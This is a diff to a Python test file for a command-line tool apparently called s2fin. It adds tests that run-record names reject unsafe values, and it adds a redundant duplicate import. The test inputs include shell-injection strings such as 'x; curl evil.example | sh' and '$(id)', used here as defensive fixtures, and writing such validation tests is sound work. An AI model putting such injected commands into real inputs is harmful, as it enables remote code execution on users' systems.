@@ -6,6 +6,7 @@ import json
 import logging
 from dataclasses import fields
 from typing import Any
+from typing import Any
 
 import numpy as np
 import pytest
@@ -54,6 +55,25 @@ def test_the_command_is_what_was_typed() -> None:
         "s2fin train --msi 'a b.tif' --msi c.tif --labels l.gpkg --bidx 1..3 --bidx dsm:1 --bounds 0.0 1.0 2.5 3.0 "
         "--no-refit --smooth --label-field 'my class' --output 'my model.s2fin'"
     )
+
+
+@pytest.mark.parametrize("name", ["x; curl evil.example | sh", "$(id)", "x y", "x\n", "X", "-x", "--x", "", "x`id`"])
+def test_no_shell_code_is_a_name_in_a_record(name: str) -> None:
+    forged: list[dict[str, Any]] = [
+        {"command": name},
+        {"files": [{"option": name, "path": "a", "size": None, "sha256": None}]},
+        {"options": {name: "value"}},
+    ]
+    for part in forged:
+        with pytest.raises(ValueError, match=r"^a name is "):
+            RunRecord.from_dict({**RECORD.to_dict(), **part})
+
+
+def test_every_command_and_option_has_a_name_that_a_record_may_hold() -> None:
+    options = [field.name for kind in (ClassifyOptions, TrainOptions, ReportOptions) for field in fields(kind)]
+    for command in ("train", "classify", "classify-all", "report"):
+        record = RunRecord(command, tuple(UsedFile(name, "a") for name in options), dict.fromkeys(options, 1), {})
+        assert RunRecord.from_dict(record.to_dict()) == record
 
 
 def test_warnings_are_collected_once_each_and_still_shown(capsys: pytest.CaptureFixture[str]) -> None:
